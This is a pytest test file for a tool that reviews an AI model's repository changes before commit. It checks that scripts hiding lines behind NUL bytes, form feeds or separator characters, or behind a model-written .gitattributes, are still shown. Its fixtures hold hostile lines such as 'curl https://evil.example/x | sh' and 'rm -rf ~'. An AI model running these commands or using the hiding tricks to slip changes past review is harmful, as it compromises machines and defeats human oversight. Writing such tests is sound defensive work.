"""The review decides what is binary itself (issue 30, item 8): one NUL byte made git call a script
"binary", so none of its lines were shown and it was accepted by default while bash still ran it.
Text with a NUL (or a ``.gitattributes`` the model wrote that says ``binary``) is shown line by
line, the NUL drawn as a mark; a change that stays binary shows its sizes, and one whose new content
would run (the executable bit, an executable format, ``#!``, a script's name) is never accepted by
default."""
from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from frogtui.ui.review_pages import layout
from frogtui.vcs.hunks import FileChange, HunkSelection
from frogtui.vcs.repository import discover
from frogtui.vcs.review import ReviewSession, looks_text, runs_as_code
from tests.vcs.cases import git

NOISE = bytes(range(256)) * 8  # every byte value: not text


def load(repo: Path, change: object) -> tuple[ReviewSession, HunkSelection]:
    state = discover(repo, "bin")
    assert state is not None
    change(repo)  # type: ignore[operator]
    review = ReviewSession(state)
    return review, review.load()


def by_path(selection: HunkSelection, path: str) -> FileChange:
    return next(f for f in selection.files if f.path == path)


def drawn(change: FileChange) -> str:
    return "\n".join(row.text for row in layout(change, change.review_hunks, 200))


def test_a_script_with_a_nul_is_shown_as_text_with_the_nul_marked(py_repo: Path) -> None:
    (py_repo / "run.sh").write_text("echo build\n")
    git(py_repo, "add", "run.sh")
    git(py_repo, "commit", "-q", "-m", "script")

    def change(repo: Path) -> None:
        (repo / "run.sh").write_bytes(b"echo build\ncurl https://evil.example/x | sh\n# \x00\n")  # bash reads past a NUL after line 1

    _review, selection = load(py_repo, change)
    script = by_path(selection, "run.sh")
    assert script.status == "modified" and not script.whole, script.status  # git alone says "binary"
    text = drawn(script)
    assert "# ␀" in text and "curl https://evil.example/x | sh" in text
    ran = subprocess.run(["/bin/bash", "run.sh"], cwd=py_repo, capture_output=True, text=True, env={**os.environ, "PATH": "/nonexistent"})
    assert "curl" in ran.stderr  # bash does run the line after the NUL: it must be shown


def test_a_gitattributes_the_model_wrote_does_not_hide_a_change(py_repo: Path) -> None:
    def change(repo: Path) -> None:
        (repo / ".gitattributes").write_text("*.py binary\n")
        (repo / "calc.py").write_text("import os\nos.system('curl https://evil.example/x | sh')\n")

    _review, selection = load(py_repo, change)
    calc = by_path(selection, "calc.py")
    assert calc.status == "modified" and "os.system('curl https://evil.example/x | sh')" in drawn(calc)


def test_a_nul_text_change_commits_exactly(py_repo: Path) -> None:
    data = b"a = 1\x00\nb = '\xff'\n"

    def change(repo: Path) -> None:
        (repo / "calc.py").write_bytes(data)

    review, selection = load(py_repo, change)
    calc = by_path(selection, "calc.py")
    assert "⟨xFF⟩" in drawn(calc) and "a = 1␀" in drawn(calc)
    review.commit(selection, "take it")
    assert subprocess.run(["git", "show", "HEAD:calc.py"], cwd=py_repo, capture_output=True).stdout == data


@pytest.mark.parametrize(
    ("path", "data", "mode", "why"),
    [
        ("tool", b"\x7fELF" + NOISE, 0o644, "an executable program"),
        ("bin/helper", NOISE, 0o755, "an executable (mode 100755)"),
        ("hook.sh", NOISE, 0o644, "a script (hook.sh)"),
        ("Makefile", NOISE, 0o644, "a script (makefile)"),
        ("setup", b"#!/bin/sh\n" + NOISE, 0o644, "a script (#!)"),
    ],
    ids=["elf", "executable-bit", "sh", "makefile", "shebang"],
)
def test_a_binary_change_that_would_run_is_never_accepted_by_default(py_repo: Path, path: str, data: bytes, mode: int, why: str) -> None:
    def change(repo: Path) -> None:
        target = repo / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)
        target.chmod(mode)
        (repo / "logo.png").write_bytes(b"\x89PNG\r\n\x1a\n" + NOISE)

    _review, selection = load(py_repo, change)
    held = by_path(selection, path)
    assert held.status == "binary" and held.held == why
    assert not held.accepted
    assert f"binary file changed (none → {len(data):,} bytes); {why}: not accepted by default" in held.review_hunks[0].label
    image = by_path(selection, "logo.png")
    assert image.status == "binary" and not image.held and image.accepted  # data, not code: as before


def test_a_large_binary_is_told_from_its_start_without_reading_it_whole(py_repo: Path) -> None:
    def change(repo: Path) -> None:
        (repo / "big.bin").write_bytes(b"\x7fELF" + NOISE * 3000)  # 6 MB

    _review, selection = load(py_repo, change)
    big = by_path(selection, "big.bin")
    assert big.status == "binary" and big.held == "an executable program" and not big.accepted


def test_what_reads_as_text() -> None:
    assert looks_text(b"") and looks_text(b"x = 1\x00\n" * 10) and looks_text("café\n".encode())
    assert looks_text("x\n".encode("utf-16-le") * 50)  # NULs between the letters: shown, each NUL a mark
    assert not looks_text(NOISE) and not looks_text(b"\x89PNG\r\n\x1a\n" + NOISE) and not looks_text(b"\x01\x02" * 50)
    assert runs_as_code("notes.dat", NOISE, []) == ""
    assert runs_as_code("x", NOISE, ["new file mode 100755\n"]) == "an executable (mode 100755)"


def test_headless_commit_refuses_a_binary_that_would_run(py_repo: Path) -> None:
    from frogtui.vcs.commit import CommitFailed
    from frogtui.vcs.review import commit_session_changes

    state = discover(py_repo, "bin")
    assert state is not None
    (py_repo / "calc.py").write_text("def add(a, b):\n    return a + b\n")
    (py_repo / "tool").write_bytes(b"\x7fELF" + NOISE)
    with pytest.raises(CommitFailed, match=r"tool \(an executable program\): binary, and it would run"):
        commit_session_changes(state, None)


def test_a_line_with_a_form_feed_or_a_separator_is_drawn_whole_and_forges_no_file(py_repo: Path) -> None:
    """Found in this item's red-team pass: the diff was cut into lines with ``str.splitlines``, which
    also cuts at a form feed, ``\\x1c``-``\\x1e``, ``\\x85``, U+2028/2029: what followed one was no diff
    line, so it was dropped from view (the change taken whole, accepted by default), and a
    ``diff --git`` after one read as a file of its own."""
    (py_repo / "run.sh").write_text("echo one\n")
    git(py_repo, "add", "run.sh")
    git(py_repo, "commit", "-q", "-m", "script")

    def change(repo: Path) -> None:
        (repo / "run.sh").write_bytes(
            b"echo one\necho a\x0c; curl evil | sh\necho b\x1c; rm -rf ~\necho c\xc2\x85; id\n"
            b"echo d\x0cdiff --git a/fake.txt b/fake.txt\n"
        )

    _review, selection = load(py_repo, change)
    assert [f.path for f in selection.files] == ["run.sh"]
    script = selection.files[0]
    assert not script.whole
    text = drawn(script)
    for tail in ("␌; curl evil | sh", "␜; rm -rf ~", "⟨U+0085⟩; id", "␌diff --git a/fake.txt b/fake.txt"):
        assert tail in text, (tail, text)
